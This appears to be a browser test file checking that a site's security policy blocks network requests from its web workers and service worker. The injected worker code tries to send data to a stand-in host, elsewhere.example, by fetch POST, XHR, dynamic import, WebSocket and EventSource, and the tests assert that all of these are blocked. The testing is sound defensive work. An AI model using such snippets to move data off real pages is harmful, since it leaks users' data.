// The site's policy holds in its workers, on a host that sends no headers, too: what they try to send elsewhere is blocked.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { root } from '../../www/build/paths.mjs';
import { securityHeaders } from '../../www/build/security-policy.mjs';
import { engine } from '../support/engines/engine.mjs';
import { openTracedSite } from '../support/engines/traced-site.mjs';
import { waitUntil } from '../support/wait-until.mjs';

const ELSEWHERE = 'http://elsewhere.example/';
/** Tries every way out when the worker gets its first request; before, it would take the violation for that of a load. */
const ATTEMPTS = `
  addEventListener('message', ({ data }) => {
    if (data.type === 'load' || globalThis.hasTried) return;
    globalThis.hasTried = true;
    fetch('${ELSEWHERE}fetch', { method: 'POST', body: 'a frame', mode: 'no-cors' }).catch(() => {});
    if (globalThis.XMLHttpRequest) {
      const request = new XMLHttpRequest();
      request.open('GET', '${ELSEWHERE}xhr');
      request.send();
    }
    import('${ELSEWHERE}import').catch(() => {});
    try { new WebSocket('${ELSEWHERE.replace('http', 'ws')}socket'); } catch {}
    try { new EventSource('${ELSEWHERE}events'); } catch {}
  });`;

/** @typedef {Awaited<ReturnType<typeof openTracedSite>>} TracedSite */

/** Opens the site with the attempts in its workers. @param {Parameters<typeof openTracedSite>[0]['headers']} headers */
async function withAttempts(headers, /** @type {(site: TracedSite) => Promise<void>} */ steps) {
  const site = await openTracedSite({ headers, inWorkers: ATTEMPTS });
  try {
    await steps(site);
    assert.deepEqual(site.elsewhere(), []);
  } finally {
    await site.close();
  }
}

/** Uses the recognizer's worker, and those for photos, contact sheets and videos; waits until each has tried. */
async function useWorkers(/** @type {TracedSite} */ { page, goto, server }) {
  const triedIn = (/** @type {string} */ scope) =>
    server.traces.filter((trace) => trace.scope === scope && trace.detail === `POST ${ELSEWHERE}fetch`).length;
  await goto('files.html');
  await waitUntil(page, async () => document.querySelector('#files-input') !== null);
  await page.setFile('#files-input', join(root, 'tests/data/astronaut.png'));
  await waitUntil(page, async () => document.querySelector('.tile[data-state="done"]') !== null);
  await page.click('#contact-sheet');
  await page.setFile('#files-input', join(root, 'www/site/live/samples/astronaut.mp4'));
  await waitForCount(() => triedIn('worker'), 4);
  return { triedIn };
}

const waitForCount = (/** @type {() => number} */ count, /** @type {number} */ expected) =>
  waitUntil(
    { evaluate: async (/** @type {() => Promise<boolean>} */ predicate) => predicate() },
    async () => count() >= expected,
  );

test(`${engine}: workers have the page's policy on a host that sends no headers`, () =>
  withAttempts(
    () => ({}),
    async (site) => {
      await useWorkers(site);
    },
  ));

test(`${engine}: the service worker has the policy of its host's headers`, () =>
  withAttempts(securityHeaders, async (site) => {
    const { triedIn } = await useWorkers(site);
    await site.page.evaluate(async () => {
      const { active } = await navigator.serviceWorker.ready;
      active?.postMessage({ type: 'try' });
    });
    await waitForCount(() => triedIn('service worker'), 1);
  }));
